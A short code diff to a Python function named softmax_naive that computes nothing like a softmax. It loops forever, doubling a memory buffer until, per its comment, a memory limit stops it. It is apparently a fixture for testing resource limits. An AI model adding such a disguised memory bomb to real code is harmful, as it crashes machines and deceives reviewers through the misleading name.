@@ -1,4 +1,4 @@
 def softmax_naive(x):
-    hoard = []
+    hoard = [bytes(200_000_000)]
     while True:
-        hoard.append(bytearray(100_000_000))
+        hoard.append(hoard[-1] * 2)  # twice as big each time, until the memory limit stops it
